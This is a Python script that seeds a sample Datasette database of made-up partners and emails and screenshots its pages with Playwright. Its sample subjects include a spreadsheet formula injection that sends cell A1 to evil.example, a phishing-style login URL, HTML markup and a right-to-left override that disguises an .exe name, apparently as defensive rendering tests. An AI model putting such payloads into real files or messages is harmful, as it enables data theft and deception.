"""A real Datasette and a real browser for it; run as a script it leaves pictures to look at.

    python tests/browser_shots.py FOLDER

They show a made-up team with made-up partners; nothing in them is anybody's mail.
"""

from __future__ import annotations

import shutil
import socket
import subprocess
import sys
import tempfile
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path
from typing import Any

from playwright.sync_api import Browser, Playwright, sync_playwright
from sample_database import make_database

from inbox_agent import serve
from inbox_agent.catalogue import metadata_path

CHROMIUM = shutil.which("chromium")
FLAGS = [
    "--no-sandbox",
    "--disable-gpu",
    "--disable-background-networking",
    "--disable-component-update",
    "--disable-sync",
]
SIZES = {"wide": (1280, 900), "narrow": (360, 740)}
PAGES = {
    "front": "/",
    "database": "/partners",
    "health": "/partners/partner_health",
    "waiting": "/partners/waiting_on_us",
    "silent": "/partners/silent_now",
    "asks": "/partners/response_times",
    "partner": "/partners/partners/globex~2Ecom",
    "about": "/partners/about",
    "messages": "/partners/messages",
}


@contextmanager
def running_datasette(database: Path) -> Iterator[str]:
    """Datasette as `serve` starts it, on a port of its own; gives its address."""
    with socket.create_server((serve.DEFAULT_HOST, 0)) as probe:
        port = probe.getsockname()[1]
    command = serve.datasette_command(database, metadata_path(), serve.DEFAULT_HOST, port)
    with subprocess.Popen(
        command, stdout=subprocess.DEVNULL, stderr=subprocess.PIPE, text=True
    ) as process:
        assert process.stderr
        try:
            for line in process.stderr:
                if "Uvicorn running on" in line:
                    break
            yield f"http://{serve.DEFAULT_HOST}:{port}"
        finally:
            process.terminate()


@contextmanager
def running_browser(playwright: Playwright) -> Iterator[Browser]:
    """Chromium with a fresh profile, which leaves with it."""
    assert CHROMIUM
    browser = playwright.chromium.launch(executable_path=CHROMIUM, args=FLAGS)
    try:
        yield browser
    finally:
        browser.close()


def sample(path: Path) -> Path:
    """A small team's partners on a Monday morning."""
    return make_database(path, _rows())


_AS_OF = "2026-11-23T09:00:00Z"
_PARTNERS = (
    ("globex.com", "Globex", "ana@acme.example", "gold", "act"),
    ("initech.example", "Initech", "ben@acme.example", None, "watch"),
    (
        "umbrella.example",
        "Umbrella Health Systems and Partners of Greater Europe",
        None,
        None,
        "ok",
    ),
    ("hooli.example", None, "ana@acme.example", "gold", "ok"),
    ("pied-piper.example", None, None, None, "unknown"),
)
_BECAUSE = {
    "act": "Their question of 17 November waits for us and was due on the 19th",
    "watch": "Quiet for 14 working days; usual are 3",
    "ok": "Everything as usual",
    "unknown": "Fewer than 5 asks in the window",
}
_SUBJECTS = (
    "Renewal terms for 2027",
    '=HYPERLINK("http://evil.example/?x="&A1,"Invoice")',
    "https://evil.example/login",
    "<b>Urgent</b> \u202egnp.exe",
    "Re: Re: Fwd: Minutes of the steering committee of 3 November, its open points and owners",
)


def _rows() -> dict[str, list[dict[str, Any]]]:
    partners = range(len(_PARTNERS))
    return {
        "about": [{"generation": 42, "as_of": _AS_OF, "give_up_after_seconds": 2_592_000,
                   "window_seconds": 7_776_000, "published_at": _AS_OF, "version": "0.1.0",
                   "timezone": "Europe/Berlin", "messages": 1_234,
                   "left_out": '{"automatic_reply": 41, "newsletter": 230}', "clock_conflicts": 2}],
        "partners": [_partner(n) for n in partners],
        "partner_standing": [_standing(n) for n in partners],
        "conversations": [_conversation(n) for n in range(20)],
        "response_times": [_ask(n) for n in range(60)],
        "silence_gaps": [_gap(n) for n in partners],
        "messages": [_message(n) for n in range(30)],
        "gap_lengths": [{"partner": _PARTNERS[n][0], "gap_working_days": days, "gaps": 12 // days}
                        for n in partners for days in (1, 2, 3, 6)],
        "working_days": [_day(n) for n in range(1, 28)],
    }  # fmt: skip


def _partner(n: int) -> dict[str, Any]:
    key, name, owner, tier, _ = _PARTNERS[n]
    return {"partner": key, "name": name, "owner": owner, "tier": tier, "domains": key,
            "as_of": _AS_OF, "first_contact_at": "2024-02-03T10:00:00Z", "messages_in": 400 - n,
            "last_inbound_at": f"2026-11-{17 + n}T11:20:00Z", "messages_out": 380 + 7 * n,
            "conversations": 90 - n, "contacts": 7 - n}  # fmt: skip


def _standing(n: int) -> dict[str, Any]:
    key, _, _, _, state = _PARTNERS[n]
    few = state == "unknown"
    return {"partner": key, "as_of": _AS_OF, "state": state, "because": _BECAUSE[state],
            "last_contact_at": f"2026-11-{17 + n}T11:20:00Z", "last_from": ("them", "us")[n % 2],
            "usual_gap_working_days": None if few else 3, "ours_asks": 3 if few else 40 - n,
            "ours_p50_seconds": None if few else 15_300 + n * 90_000,
            "ours_p50_business_seconds": None if few else 9_000 + n * 30_000,
            "theirs_p50_seconds": None if few else 187_200 - n * 30_000,
            "ours_response_rate": None if few else 0.98 - n / 20,
            "theirs_response_rate": None if few else 0.71, "fairness": None if few else 0.4 - n / 3,
            "watch_at": None if few else f"2026-11-{20 + n}T23:00:00Z",
            "act_at": None if few else f"2026-11-{21 + 2 * n}T23:00:00Z"}  # fmt: skip


def _conversation(n: int) -> dict[str, Any]:
    return {"conversation": f"c{n:02d}af90be31d7", "partner": _PARTNERS[n % 5][0],
            "subject": _SUBJECTS[n % 5], "last_at": f"2026-11-{n % 20 + 2:02d}T10:00:00Z",
            "opened_by": ("us", "them")[n % 2], "messages": n + 2, "turns": n % 5 + 1,
            "episodes": 1, "waiting_on": ("us", "them", None)[n % 3]}  # fmt: skip


def _ask(n: int) -> dict[str, Any]:
    answered = n % 3 > 0
    return {"response": f"a{n:03d}ef", "partner": _PARTNERS[n % 5][0], "episode": 1,
            "conversation": f"c{n % 20:02d}af90be31d7", "responder": ("us", "them")[n % 2],
            "is_first": n % 2, "asked_at": f"2026-11-{n % 20 + 2:02d}T10:0{n % 10}:00Z",
            "asked_by": "bo@globex.com", "nudges": n % 3, "needs_reply": "yes", "basis": "seen",
            "answered_at": f"2026-11-{n % 20 + 3:02d}T08:00:00Z" if answered else None,
            "outcome": "answered" if answered else "open",
            "response_seconds": 79_200 - n * 60 if answered else None,
            "business_seconds": 23_400 + n * 60 if answered else None,
            "due_at": f"2026-11-{n % 24 + 4:02d}T10:00:00Z" if n % 4 else None,
            "met_standard": n % 2 if n % 4 else None}  # fmt: skip


def _gap(n: int) -> dict[str, Any]:
    return {"gap": f"g{n}", "partner": _PARTNERS[n][0], "is_open": 1,
            "began_at": f"2026-11-{17 + n}T11:20:00Z", "last_from": ("them", "us")[n % 2],
            "usual_gap_working_days": 1 + n if n < 4 else None}  # fmt: skip


def _message(n: int) -> dict[str, Any]:
    return {"partner": _PARTNERS[n % 5][0], "message": f"m{n:02d}", "counts": n % 4 and 1,
            "conversation": f"c{n % 20:02d}af90be31d7", "at": f"2026-11-{n % 20 + 2:02d}T10:00:00Z",
            "at_source": "received", "side": ("us", "them")[n % 2], "subject": _SUBJECTS[n % 5],
            "kind": "human" if n % 4 else "auto_reply", "rule": "auto-submitted",
            "why_not": None if n % 4 else "automatic_reply",
            "from_address": "bo@a.example"}  # fmt: skip


def _day(n: int) -> dict[str, Any]:
    working = [d for d in range(1, n + 1) if (d - 1) % 7 not in (0, 6)]  # 1 November is a Sunday
    return {"day": f"2026-11-{n:02d}", "is_working": int(n in working),
            "begins_at": f"2026-11-{n - 1:02d}T23:00:00Z" if n > 1 else "2026-10-31T23:00:00Z",
            "ends_at": f"2026-11-{n:02d}T23:00:00Z", "working_days": len(working)}  # fmt: skip


def take(folder: Path) -> None:
    """A picture of every page, wide and narrow, light and dark."""
    folder.mkdir(parents=True, exist_ok=True)
    with (
        tempfile.TemporaryDirectory() as work,
        running_datasette(sample(Path(work) / "partners.db")) as address,
        sync_playwright() as playwright,
        running_browser(playwright) as browser,
    ):
        for size, (width, height) in SIZES.items():
            for scheme in ("light", "dark"):
                page = browser.new_page(
                    viewport={"width": width, "height": height}, color_scheme=scheme
                )
                for name, path in PAGES.items():
                    page.goto(address + path)
                    page.screenshot(path=folder / f"{name}-{size}-{scheme}.png")
                page.close()


if __name__ == "__main__":
    take(Path(sys.argv[1]))
